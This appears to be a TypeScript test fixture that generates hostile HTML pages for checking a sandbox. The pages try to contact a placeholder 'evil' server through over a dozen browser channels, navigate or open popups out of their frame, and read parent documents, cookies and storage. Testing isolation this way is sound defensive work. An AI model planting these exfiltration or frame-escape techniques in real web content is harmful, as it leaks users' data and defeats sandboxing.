/** What pages of hostile tiles try, to be run behind walls and without them. */

/** Writes into the page that all of its script has run. */
export const script = (code: string) => `<body><p id="said"></p><script>
  var say = function (text) { document.getElementById('said').textContent += text + ' '; };
  var quiet = function (act) { try { var did = act(); if (did && did.catch) did.catch(function () {}); } catch (error) { say(error.name); } };
  ${code};
  setTimeout(function () { say('tried'); }, 300);
</script></body>`;

/** Sends something to another server by every way there is. */
export const leaving = (evil: string) =>
  script(`
  quiet(function () { return fetch('${evil}/evil/fetch', {mode: 'no-cors'}); });
  quiet(function () { new Image().src = '${evil}/evil/image'; });
  quiet(function () { var x = new XMLHttpRequest(); x.open('GET', '${evil}/evil/xhr'); x.send(); });
  quiet(function () { navigator.sendBeacon('${evil}/evil/beacon', 'x'); });
  quiet(function () { new WebSocket('${evil.replace('http', 'ws')}/evil/socket'); });
  quiet(function () { new EventSource('${evil}/evil/events'); });
  quiet(function () { return new FontFace('f', 'url(${evil}/evil/font)').load(); });
  quiet(function () { return import('${evil}/evil/import'); });
  quiet(function () {
    ['<link rel=prefetch href="${evil}/evil/prefetch">', '<link rel=preload as=image href="${evil}/evil/preload">',
     '<link rel=stylesheet href="${evil}/evil/css">', '<link rel=icon href="${evil}/evil/icon">',
     '<style>p { background: url(${evil}/evil/background) }</style>',
     '<iframe src="${evil}/evil/frame"></iframe>', '<object data="${evil}/evil/object"></object>',
     '<video src="${evil}/evil/video"></video>', '<svg><image href="${evil}/evil/svg"/></svg>'
    ].forEach(function (html) { document.body.insertAdjacentHTML('beforeend', html); });
    var s = document.createElement('script'); s.src = '${evil}/evil/script'; document.head.append(s);
  });`);

/** Goes elsewhere with all that is around it, by four ways. */
export const outward = (evil: string) =>
  script(`
  quiet(function () { top.location.href = '${evil}/evil/top'; });
  quiet(function () { say(String(open('${evil}/evil/popup'))); });
  quiet(function () {
    var form = document.createElement('form'); form.action = '${evil}/evil/form'; form.target = '_top';
    document.body.append(form); form.submit();
  });
  quiet(function () {
    var link = document.createElement('a'); link.href = '${evil}/evil/link'; link.target = '_top';
    document.body.append(link); link.click();
  });`);

/** Reads what is not its own. */
export const reaching = script(`
  quiet(function () { say(parent.document.title); });
  quiet(function () { say(top.document.title); });
  quiet(function () { say('cookie:' + document.cookie); });
  quiet(function () { say(typeof localStorage); });
  quiet(function () { indexedDB.open('x').onsuccess = function () { say('stored'); }; });`);
